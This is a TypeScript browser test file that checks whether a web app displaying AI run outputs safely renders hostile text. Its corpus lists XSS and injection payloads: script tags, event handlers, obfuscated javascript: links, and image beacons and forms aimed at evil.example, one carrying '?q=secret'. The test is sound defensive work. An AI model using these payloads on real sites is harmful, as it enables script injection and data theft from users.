import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { reordering } from '#tests/walls/hostile/inputs.ts';
import { shownTexts } from '#tests/walls/hostile/injections.ts';
import { begin, closed, noon, runId, started } from '#tests/optimizations/run/run-script.ts';
import { launchBrowser } from '#tests/web/support/browser.ts';
import { runServer } from '#tests/web/support/run-server.ts';
import { plainWords, storyOf, type Words } from '#tests/web/support/run-story.ts';
import { member, serveSite, type Site } from '#tests/web/support/site.ts';

/**
 * Models and users can write anything. Every place that shows a run's text gets each text of this
 * corpus: nothing may run or load, and no link may lead elsewhere.
 */
const corpus = [
  '<script>document.title = "owned"</script>',
  '<img src="https://evil.example/p.png" onerror="document.title = \'owned\'">',
  '![pixel](https://evil.example/p.png?q=secret)',
  '![pixel][1]\n\n[1]: https://evil.example/p.png',
  '![pixel](data:image/svg+xml;base64,PHN2Zz4=)',
  '[click](javascript:document.title="owned")',
  '[click](JaVaScRiPt:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](data:text/html,<script>alert(1)</script>)',
  '[click](http://evil.example/)',
  '[click](//evil.example/)',
  '[click](/api/auth/logout)',
  '[click](https://evil.example/x)',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<svg onload="document.title = \'owned\'"><a href="javascript:alert(1)">x</a></svg>',
  '<style>@import "https://evil.example/s.css";</style>',
  '<link rel="stylesheet" href="https://evil.example/s.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><button>send</button></form>',
  '<base href="https://evil.example/">',
  '[x]: https://evil.example/p.png\n\n# Heading\n\n| a |\n|---|\n| <b>x</b> |',
  ...shownTexts(),
];

let browser: Browser;
let site: Site;

beforeAll(async () => {
  [browser, site] = await Promise.all([launchBrowser(), serveSite({ api: member })]);
});

afterAll(async () => {
  await browser.close();
  await site.close();
});

/** Every text in every place. */
function hostile(): Partial<Words> {
  const text = corpus.join('\n\n');
  const cited = corpus.map((one) => ({ text: one, claim_ids: ['c1', one] }));
  return {
    title: text,
    challenge: text,
    opinion: (seat) => ({
      ...plainWords.opinion(seat),
      recommendation: { option_label: text, one_line: text },
      reasoning: corpus,
      claims: corpus.map((one) => ({ text: one, importance: 3, if_false_flips: true })),
      assumptions: corpus,
      missing_info: corpus,
      risks: corpus,
    }),
    ledger: (claims, options) => ({
      claims: Object.fromEntries(
        claims.map((id) => [id, { text, quotes: [{ seat: 'S1', quote: text }] }]),
      ),
      options: Object.fromEntries(options.map((id) => [id, text])),
      notes: { n1: text },
    }),
    notes: () => ({
      critique: text,
      flaws: [{ seat: 'S1', text }],
      reasons: { c1: text },
      decisionReason: text,
    }),
    draft: {
      decision: text,
      option_id: 'o1',
      sections: [{ heading: text, blocks: cited }],
      next_steps: corpus.map((one) => ({
        action: one,
        owner: one,
        by_days: 7,
        measure: one,
        stop_if: one,
        claim_ids: ['c1', one],
      })),
      flaw_replies: [{ flaw_id: 'f1', text }],
      dissent: [{ claim_id: 'c1', text }],
      uncertainties: corpus,
    },
  };
}

type Visit = { page: Page; requests: string[]; close: () => Promise<void> };

async function visit(path: string): Promise<Visit> {
  const context = await browser.newContext();
  const page = await context.newPage();
  const requests: string[] = [];
  page.on('request', (request) => requests.push(request.url()));
  await page.goto(`${site.origin}${path}`);
  return { page, requests, close: async () => context.close() };
}

/** Every element that could run, load or lead elsewhere. */
async function dangers(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const main = document.querySelector('main');
    const elements = [...(main?.querySelectorAll('*') ?? [])];
    const loading = elements.filter((element) =>
      /^(script|img|iframe|style|link|meta|form|base|object|embed|picture|video)$/i.test(
        element.tagName,
      ),
    );
    const handlers = elements.filter((element) =>
      element.getAttributeNames().some((name) => name.startsWith('on')),
    );
    const links = [...(main?.querySelectorAll('a[href]') ?? [])].filter((link) => {
      const href = link.getAttribute('href') ?? '';
      return !/^(\/(optimization|dashboard|credits|evolution|recipes|method)|#claim-|#[a-z-]+$)/.test(
        href,
      );
    });
    return [...loading, ...handlers, ...links].map((element) => element.outerHTML);
  });
}

describe('hostile text', () => {
  it('hostile text is harmless on the result and in the chamber', async () => {
    const story = storyOf(closed(), hostile());
    site.answer(runServer(story, story.facts.length).api);
    const result = await visit(`/optimizations/${runId}`);
    await result.page.getByRole('heading', { name: 'Cost, time and tokens' }).waitFor();
    for (const summary of await result.page.locator('details > summary').all())
      await summary.click();
    await result.page.waitForTimeout(200);
    await expect.poll(() => dangers(result.page)).toEqual([]);
    await expect.poll(() => result.page.title()).not.toBe('owned');
    const words = await result.page.locator('main').innerText();
    expect(words).not.toMatch(/[^\P{Cc}\n\t]/u);
    expect(words).not.toMatch(reordering);

    const chamber = await visit(`/evolution-chamber?id=${runId}`);
    await chamber.page.getByRole('button', { name: /read S1$/ }).click();
    await chamber.page.getByRole('button', { name: 'Details of S1' }).click();
    await chamber.page.getByRole('heading', { name: 'Calls and retries' }).waitFor();
    await expect.poll(() => dangers(chamber.page)).toEqual([]);
    await expect.poll(() => chamber.page.title()).toBe('Done · Evolution Chamber');

    for (const { requests, page, close } of [result, chamber]) {
      expect(requests.filter((url) => !url.startsWith(site.origin))).toEqual([]);
      expect(new URL(page.url()).origin).toBe(site.origin);
      await close();
    }
  });
});

it('hostile text is shown verbatim while it streams', async () => {
  const story = storyOf(started().given(begin('opinion.S1', 1, noon)));
  const server = runServer(story, story.facts.length);
  site.answer(server.api);
  const { page, requests, close } = await visit(`/evolution-chamber?id=${runId}`);
  await page.getByText('Connected').waitFor();
  await expect.poll(server.watchers).toBe(1);
  const text = corpus.join(' ').replaceAll('\n', ' ');
  const delta = { run: runId, seat: 'S1', slot: 'opinion.S1', attempt: 1, offset: 0, progress: 9 };
  server.say({ ...delta, text });
  await page.getByRole('button', { name: /read S1$/ }).click();
  await page.getByRole('button', { name: 'Details of S1' }).click();
  const dialog = page.getByRole('dialog', { name: 'Seat S1' });
  await dialog.getByText(text).waitFor();
  await expect.poll(() => dangers(page)).toEqual([]);
  expect(requests.filter((url) => !url.startsWith(site.origin))).toEqual([]);
  await close();
});
